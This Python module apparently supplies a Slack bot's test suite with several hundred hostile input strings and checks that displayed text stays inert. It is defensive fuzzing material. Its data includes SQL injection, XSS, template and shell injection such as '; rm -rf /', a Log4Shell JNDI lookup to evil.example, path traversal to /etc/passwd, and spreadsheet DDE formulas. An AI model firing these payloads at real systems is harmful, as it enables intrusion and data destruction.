"""Five hundred hostile strings, by what each tries to do, and what must hold of everything that is shown.

Words that try to be formatted have "evil" beside each mark; ids in mentions are of nobody whom the bot ever names; what
would be computed from 7*191 is 1337.
"""

import html
import json
import re
import unicodedata
from collections.abc import Iterator, Sequence
from typing import Any

from atest_bot.sandbox.objects import Json

_HIDDEN = (0xAD, 0x34F, 0x61C, 0x115F, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070))
_CONTROL = (*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0))
_FORMULA = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\x00=",
    "'=",
    '"=',
    " =",
    "\n=",
    ";=",
    "%=",
)
_COMMANDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","ok")', "SUM(A1:A9)")
_DEVICES = ("CON", "PRN", "AUX", "NUL", "COM1", "LPT1")


def _slack() -> Iterator[str]:
    mentions = ("!here", "!channel", "!everyone", "@U0EVIL", "@W0EVIL", "#C0EVIL", "!subteam^S0EVIL", "@U0GRACE")
    for mention in mentions:
        yield from (f"<{mention}>", f"<{mention}|evil>", f"&lt;{mention}&gt;", f"evil<{mention}")
    yield from ("@here", "@channel", "@everyone", "#general", "@grace.lee", "<@U0EVIL", "U0EVIL>", "<<@U0EVIL>>")
    yield from ("<!date^0^{date}|evil>", "<!date^0^{date}^https://evil.example|evil>", "<!date^9999999999999^x|evil>")
    for link in (
        "https://evil.example",
        "http://evil.example/?a=1&b=2",
        "mailto:evil@evil.example",
        "tel:+1555",
        "slack://x",
    ):
        yield from (link, f"<{link}>", f"<{link}|evil>", f"[evil]({link})", f"see {link}, evil")
    yield from (
        "<javascript:alert(1)|evil>",
        "<data:text/html,evil|evil>",
        "<//evil.example|evil>",
        "<|evil>",
        "<evil|>",
        "<>",
    )
    yield from (
        "https://evil.example/>|evil",
        "https://evil.example/<!here>",
        "https://evil.example/ evil",
        "HTTPS://EVIL.EXAMPLE",
    )
    yield from (
        "\u2063@U0EVIL\u2063",
        "\u2063#C0EVIL\u2063",
        "\u2063^C0EVIL/1.2^evil\u2063",
        "&amp;lt;!here&amp;gt;",
        "&#60;!here>",
    )
    yield from (
        ":tada:",
        ":skin-tone-2:",
        ":evil::evil:",
        ":+1:",
        "\U0001f600",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    )


def _formatting() -> Iterator[str]:
    for mark in ("*", "_", "~", "`", "```", "**", "__", "~~", "*_", "`*"):
        yield from (
            f"{mark}evil{mark}",
            f"a {mark}evil{mark} b",
            f"{mark}evil",
            f"evil{mark}",
            f"\u201c{mark}evil{mark}\u201d",
        )
    yield from (
        "> evil",
        ">>> evil",
        "&gt; evil",
        "# evil",
        "- evil",
        "1. evil",
        "* evil",
        "\u2022 evil",
        "| evil | evil |",
    )
    yield from (
        "words\n> evil",
        "words\n```evil\n```",
        "words\n*evil*",
        "a\n\n\n\nb evil",
        "---",
        "***evil***",
        "<b>evil</b>",
    )


def _directions() -> Iterator[str]:
    controls = (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x200E, 0x200F, 0x61C)
    yield from (f"{chr(code)}evil" for code in controls)
    yield from (f"evil{chr(code)}live\u202c" for code in controls)
    yield from (
        "\u05e9\u05dc\u05d5\u05dd",
        "\u05e9\u05dc\u05d5\u05dd evil",
        "evil \u05e9\u05dc\u05d5\u05dd 123",
        "\u0645\u0631\u062d\u0628\u0627",
    )
    yield from (
        "\u0645\u0631\u062d\u0628\u0627 (evil)",
        "\u05d0(1)",
        "1 \u05d0 2",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 - a",
        "\u07ca\u07d2",
    )
    yield from (
        "\u2069\u05d0",
        "\u2069evil\u2068",
        "\u2068evil",
        "evil\u2069",
        "\U0001e900\U0001e901",
        "\u0661\u0662\u0663",
        "\u06f1\u06f2 a",
    )


def _unseen() -> Iterator[str]:
    yield from (f"ev{chr(code)}il" for code in _HIDDEN)
    yield from (f"ev{chr(code)}il" for code in _CONTROL)
    yield from (
        "",
        " ",
        "   ",
        "\n",
        "\n\n\n",
        "\t",
        "\u00a0",
        "\u3000",
        "\u2003\u2003",
        "\u200d",
        "\u200d\u200d",
        "\ufe0f",
        "\u2060",
    )
    yield from (
        "\ud800",
        "\udfff",
        "ev\udc00il",
        "\ud83d",
        "\ude00\ud83d",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
        "ev\uf8ffil",
    )
    yield from (
        "\U000e0001",
        "\U000e0065vil",
        "\u2800",
        "\u3164",
        "\ufeffevil",
        "evil\ufeff",
        "\u0378",
        "\ufff9evil\ufffb",
    )


def _lookalikes() -> Iterator[str]:
    yield from (
        "Fr\u0435e the Workers",
        "\u0421asa Nueva",
        "Cas\u03b1 Nueva",
        "\uff23asa Nueva",
        "C\u0430sa \u041dueva",
        "FREE THE WORKERS",
    )
    yield from (
        "Free  the  Workers",
        "Free\u00a0the Workers",
        "Free-the-Workers",
        "free the workers.",
        "\u2c6fasa",
        "\U0001d402asa",
    )
    yield from ("e" + "\u0301" * count for count in (1, 2, 3, 30, 500))
    yield from (
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d",
        "a\u20dd\u20dd\u20dd",
        "\u0e01\u0e33\u0e33\u0e33",
        "\u0ddd\u0ddd",
        "\ufdfd" * 40,
    )
    yield from (
        "\u00df",
        "\u0130stanbul",
        "\u017fecret",
        "\u212aelvin",
        "\u2460\u2461",
        "\u00bd",
        "\ufb03",
        "\u1e9e",
        "a\u0338",
        "\uff1csc\uff1e",
    )


def _size() -> Iterator[str]:
    yield from (
        "x" * length
        for length in (1, 2, 75, 76, 80, 81, 150, 151, 255, 256, 2_999, 3_000, 3_001, 4_001, 30_001, 200_000)
    )
    yield from (
        "w" * 400 + " x",
        "word " * 599,
        "\n" * 500 + "a",
        "a\n" * 1_499,
        "\u00e9" * 3_000,
        "\U0001f600" * 1_500,
        "<" * 2_999,
    )
    yield from (
        "&" * 600,
        "*" * 1_000,
        "_" * 149,
        "`" * 75,
        "\u05d0" * 149,
        ", " * 70 + "x",
        "." * 80,
        "\u2014" * 150,
        "'" * 79,
    )


def _formulas() -> Iterator[str]:
    yield from (f"{start}{command}" for start in _FORMULA for command in _COMMANDS)
    yield from (
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*evil",
        "=1+1\n=2+2",
        '","=1+1","',
        '"\n=1+1\n"',
        'DDE("cmd")',
        "+evil",
        "-evil",
    )


def _machines() -> Iterator[str]:
    yield from (
        "'; DROP TABLE votes; --",
        '"; DELETE FROM entries; --',
        "1' OR '1'='1",
        "Robert'); --",
        "\\'; --",
        "%' LIKE '%",
        "/* evil */",
    )
    yield from (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "javascript:alert(1)",
        "</title><b>",
    )
    yield from (
        "<!--evil-->",
        "<?xml version='1.0'?>",
        "]]>",
        "<![CDATA[evil]]>",
        "<!DOCTYPE a [<!ENTITY x 'evil'>]>&x;",
        "&evil;",
        "&#x0;",
    )
    yield from (
        "{{7*191}}",
        "{% evil %}",
        "${7*191}",
        "#{7*191}",
        "<%= 7*191 %>",
        "{{config}}",
        "{{''.__class__.__mro__}}",
        "{#evil#}",
    )
    yield from (
        "%s%s%s%n",
        "%(evil)s",
        "%d",
        "%",
        "%%",
        "{}",
        "{0}",
        "{0.__class__}",
        "{evil}",
        "{",
        "}",
        "{:>999999}",
        "$(evil)",
        "$evil",
    )
    yield from (
        "`id`",
        "$(id)",
        "; rm -rf /",
        "| evil",
        "&& evil",
        "evil > /dev/null",
        "${jndi:ldap://evil.example/a}",
        "%{(#a)}",
        "\\u0041",
    )
    yield from (
        '{"a": "evil"}',
        '"',
        "'",
        "\\",
        '\\"',
        '","evil":"',
        "[1, 2",
        "null",
        "true",
        "NaN",
        "-0",
        "1e400",
        "0x41",
        "undefined",
        "None",
    )
    yield from (
        "../../../etc/passwd",
        "..\\..\\evil",
        "/etc/passwd",
        "C:\\evil",
        "file:///etc/passwd",
        "~root",
        "a/b",
        "a\\b",
        ".",
        "..",
        "evil%00.txt",
    )
    yield from (f"{name}{ending}" for name in _DEVICES for ending in ("", ".txt"))
    yield from (
        "\x1b[31mevil\x1b[0m",
        "\x1b]0;evil\x07",
        "\x9b31mevil",
        'evil\r\n{"level": "ERROR"}',
        "evil\nINFO evil",
        "evil\rlive",
        "\x08\x08evil",
    )
    yield from (
        "a,b",
        'a"b',
        "a;b",
        'a""b',
        '"a',
        "a\n,b",
        "a\x00b",
        "'evil",
        "evil'",
        "T$(x)$",
        "$\\frac{1}{2}$",
        "$evil$",
        "\\evil{}",
        "^evil_{2}",
    )
    yield from (
        "P-2027-001",
        "D-2027-001",
        "<P-2027-001>",
        "sign-on",
        "@person",
        "until",
        "from",
        "add",
        "--help",
        "-rf",
        "/atest help",
        "/dev/null",
    )
    yield from (
        "evil: [a, b]",
        "!!python/object:os.system",
        "&a *a",
        'key = "evil"\n[channels]',
        "'''",
        '"""',
        "[evil]",
        "a = 1",
        "#evil",
        "\\N{DEL}",
    )
    yield from (
        "U0MAYA",
        "B0BOT",
        "C0MEMBERS",
        "xoxb-evil-token",
        "xapp-evil",
        "postgresql://evil:evil@h/d",
        "2027-13-45",
        "99999999999999999999",
        "-1",
    )


def _combined() -> Iterator[str]:
    yield "*_~`evil`~_* <!here> <@U0EVIL> {{7*191}} =1+1 '; -- \u05e9\u05dc\u05d5\u05dd <https://evil.example|evil>"
    yield "\u05e9\u05dc\u05d5\u05dd <!channel> *evil* `evil`"
    yield '=HYPERLINK("https://evil.example";"<!here>")'
    yield "<!here>\n> evil\n*evil*\n=1+1\n\u0645\u0631\u062d\u0628\u0627"


CATEGORIES = {
    "slack": tuple(_slack()),
    "formatting": tuple(_formatting()),
    "direction": tuple(_directions()),
    "unseen": tuple(_unseen()),
    "lookalike": tuple(_lookalikes()),
    "size": tuple(_size()),
    "formula": tuple(_formulas()),
    "machine": tuple(_machines()),
    "combined": tuple(_combined()),
}
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(words for each in CATEGORIES.values() for words in each))

# --- what must hold of all that is shown ---

OURS = re.compile(
    r"<(?:@U0(?!EVIL|GRACE)[A-Z]+|#C0(?!EVIL)[A-Z]+|!date\^\d+\^\{date_short_pretty\}, \{time\}\|[\w ,:]+"
    r"|https?://[\w.:]+/archives/C0(?!EVIL)[A-Z]+/p\d+\|[\w .,\u201c\u201d\u2019-]+)>"
)
_MARKED = re.compile(r"[*_~`]+evil|evil[*_~`]+")
_QUOTED = re.compile(r"(?m)^(?:>|&gt;)")
_COMPUTED = re.compile("(?<![0-9a-f])1337(?![0-9a-f])")  # by itself: a hash may hold these digits
_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066\u2067\ufeff\ud800-\udfff]"
)
_RIGHT_TO_LEFT = {"R", "AL", "AN"}


def shown_in(node: Any) -> Iterator[tuple[str, str]]:
    """Every text that Slack was given, with how it reads it: `mrkdwn` or `plain`."""
    if isinstance(node, str) and node[:1] in "[{":
        try:
            yield from shown_in(json.loads(node))
        except ValueError:
            return
    elif isinstance(node, list):
        for item in node:
            yield from shown_in(item)
    elif isinstance(node, dict):
        yield from _own(node)
        for key, value in node.items():
            if key not in ("state", "metadata", "private_metadata") and isinstance(value, dict | list | str):
                yield from shown_in(value)


def _own(node: Json) -> Iterator[tuple[str, str]]:
    words = node.get("text")
    if isinstance(words, str):
        yield ("plain" if node.get("type") == "plain_text" else "mrkdwn"), words
    for name in ("accessibility_label", "initial_comment", "title", "alt_txt"):
        if isinstance(node.get(name), str):
            yield "plain", node[name]
    if isinstance(node.get("errors"), dict):
        yield from (("plain", str(each)) for each in node["errors"].values())


def not_inert(kind: str, words: str, typed: Sequence[str], link: str = "") -> list[str]:
    """What a text does that only we may do; `typed` is in it, and `link` is an address that its author gave as such."""
    faults = ["a control character"] if _CONTROLS.search(words) else []
    if kind == "mrkdwn":
        rest = OURS.sub("", words)
        if link:
            rest = rest.replace(f"<{html.escape(link, quote=False)}>", "")
        faults += ["a live mention or link"] if re.search("[<>]", rest) else []
        faults += ["live formatting"] if _is_formatted(words, typed) else []
        faults += ["a quotation that nobody made"] if _QUOTED.search(words) else []
    faults += ["something computed"] if _COMPUTED.search(words) else []
    faults += ["another direction"] if not _is_isolated(words, typed) else []
    return [f"{fault} in {words[:400]!r}" for fault in faults]


def _is_formatted(words: str, typed: Sequence[str]) -> bool:
    """Whether marks stand as they were typed where a mark of ours would act; bold of ours may end in an asterisk."""
    lines = [line.strip() for each in typed for line in each.splitlines() if _MARKED.search(line.rstrip(" *"))]
    return any(re.search(f"{re.escape(html.escape(line, quote=False))}(?!\u2060)", words) for line in lines)


def _is_isolated(words: str, typed: Sequence[str]) -> bool:
    """What runs right to left stands last, or between marks that end its direction."""
    own = [unicodedata.normalize(form, each).strip() for form in ("NFC", "NFKC") for each in typed]
    depth = 0
    for place, letter in enumerate(words):
        depth += (letter == "\u2068") - (letter == "\u2069")
        if depth < 0:
            return False
        if depth == 0 and unicodedata.bidirectional(letter) in _RIGHT_TO_LEFT:
            return any(words[place:].strip() in each for each in own)  # nothing of ours comes after it
    return depth == 0
